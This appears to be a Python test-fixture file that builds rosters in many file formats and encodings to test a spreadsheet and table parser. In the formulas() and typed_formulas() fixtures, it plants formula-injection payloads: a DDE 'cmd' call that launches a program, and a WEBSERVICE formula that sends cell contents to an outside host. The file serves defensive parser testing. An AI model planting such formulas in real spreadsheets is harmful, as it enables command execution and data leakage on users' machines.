"""Rosters in every kind of file and encoding; what must be read of them stands in `expected.py`."""

from __future__ import annotations

from datetime import date
from typing import Any

import openpyxl

from tests.exchange.making import PLAIN, Ods, altered, csv, docx, html, ods, resident_id, xls, xlsx
from tests.exchange.oddities import HEAD, SUN, ZHOU


def formulas() -> bytes:
    """Formulas that reach out, that failed, and that are well."""
    rows = [["姓名", "备注"], ["孙志远", "x"], ["周晓梅", "x"], ["吴天明", "x"], ["郑文", "x"]]
    cells = [
        '<c r="B2" t="str"><f>WEBSERVICE("http://a.example/"&amp;A2)</f><v>好</v></c>',
        '<c r="B3" t="str"><f>cmd|\' /C calc\'!A0</f><v>好</v></c>',
        '<c r="B4" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
        '<c r="B5" t="str"><f>HYPERLINK("http://a.example","资深")</f><v>资深</v></c>',
    ]

    def change(name: str, content: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return content
        for number, cell in enumerate(cells, 2):
            start = content.index(f'<c r="B{number}"'.encode())
            content = content[:start] + cell.encode() + content[content.index(b"</c>", start) + 4 :]
        return content

    return altered(xlsx(rows), change)


def typed_formulas() -> bytes:
    """Formulas in a text file, which has no results; ="007" is Excel's way to keep a text."""
    rows = [
        "姓名,会员编号,备注",
        '孙志远,"=""007""",=1+1',
        "周晓梅,B2,=cmd|' /C calc'!A0",
        "吴天明,B3,+86 是区号",
    ]
    return "\n".join(rows).encode()


def open_document() -> bytes:
    """An `.ods` with merged-down employers, a month, an error and what is hidden."""
    rows = [
        ["工作单位", "姓名", "出生日期", "备注"],
        [
            Ods("燕山大学", valuetype="string", numberrowsspanned=2),
            "孙志远",
            Ods("1965年3月", valuetype="date", datevalue="1965-03-01"),
            "",
        ],
        [None, "周晓梅", Ods("1970-05-01", valuetype="date", datevalue="1970-05-01"), ""],
        ["清河医院", "吴天明", "", Ods("#N/A", valuetype="string", formula="of:=NA()")],
    ]
    return ods(rows, hidden_rows=[3], hidden_columns=[2])


def repeated_cells() -> bytes:
    """An `.ods` whose empty cells and rows are repeated to the end of the sheet."""
    rows = [["姓名", "电话"], ["孙志远", "13800138000"]]

    def change(name: str, content: bytes) -> bytes:
        tail = (
            b'<table:table-row table:number-rows-repeated="1048574">'
            b'<table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table>'
        )
        return content.replace(b"</table:table>", tail) if name == "content.xml" else content

    return altered(ods(rows), change)


def formatted_to_the_end() -> bytes:
    """Formats, not values, down to the last row: WPS leaves them everywhere."""

    def paint(sheet: Any) -> None:
        for row, column in ((1_048_576, 1), (2, 16_384)):
            sheet.cell(row, column).font = openpyxl.styles.Font(bold=True)

    return xlsx(PLAIN, paint)


def word() -> bytes:
    """A council list in Word, employers merged down."""
    rows = [
        ["单位", "姓名", "职务"],
        ["燕山大学", "孙志远", "校长"],
        ["", "吴天明", ""],
        ["清河医院", "周晓梅", "院长"],
    ]
    return docx(rows, lambda table: table.cell(1, 0).merge(table.cell(2, 0)))


def page() -> bytes:
    """What many systems call `.xls`: a web page, here in GB18030 as it says nowhere."""
    rows = [["姓　名", "电话<br>（手机）"], ["孙志远", "13800138000"], ["周晓梅&nbsp;", "<b>139</b>00139000"]]
    return html(rows, "th").encode("gb18030")


def spanned_page() -> bytes:
    """Cells over several rows and columns, a hidden row, a table inside a cell."""
    return (
        "<table><tr><th rowspan=2>姓名<th colspan=2>联系方式</tr><tr><th>电话<th>邮箱</tr>"
        "<tr><td>孙志远<td>13800138000<td><table><tr><td>a@b.cn</table></tr>"
        "<tr style='display:none'><td>周晓梅<td>13900139000<td></tr></table>"
    ).encode()


def mixed_text() -> bytes:
    """全角, blanks, zero-width characters, and letters that look alike."""
    rows = [
        ["姓 名", "联系电话", "职称", "学历/学位", "会员编号", "邮政编码"],
        ["孙\u3000远", "＋８６ １３８００１３８０００", "教授级高工", "研究生/博士", "Ｂ００１", 100871.0],
        ["\u200b周 晓梅 ", "010-62751234转801", "正高级工程师（Ⅱ级）", "本科", "B002", "１００８７１"],
    ]
    return xlsx(rows)


def latin_names() -> bytes:
    rows = [
        ["姓名", "外文姓名", "国籍"],
        ["Ｌｅｅ　Ａｎｎａ", "Lee, Anna", "英国"],
        ["José Núñez", "", "西班牙"],
    ]
    return csv(rows, "utf-16-le", "\t")


def traditional(encoding: str) -> bytes:
    rows = [
        ["姓名", "性別", "出生年月", "工作單位"],
        ["陳大文", "男", "1965-03", "香港大學"],
        ["李國華", "女", "1970年5月", "香港中文大學"],
    ]
    return csv(rows, encoding)


def mere_numbers() -> bytes:
    """Numbers where texts belong, from a sheet that knew no better."""
    rows = [
        ["会员编号", "姓名", "联系电话", "出生年月", "身份证号"],
        [1001, "孙志远", 13800138000, 1965.03, 1.10108196503e17],
        [1002.0, "周晓梅", "13900139000.0", 25000, resident_id("19680611")],
    ]
    return xlsx(rows)


def old_binary() -> bytes:
    """The old form with dates as dates and a number."""
    return xls([["会员编号", *HEAD], [7, *SUN], [8, "周晓梅", "女", date(1970, 5, 6), "清河医院"]])


def in_the_middle() -> bytes:
    """A table that begins neither in the first column nor in the first row."""
    return xlsx([[], [], ["", "", "名册"], ["", "", *HEAD], ["", "", *SUN], [], ["", "", *ZHOU]])
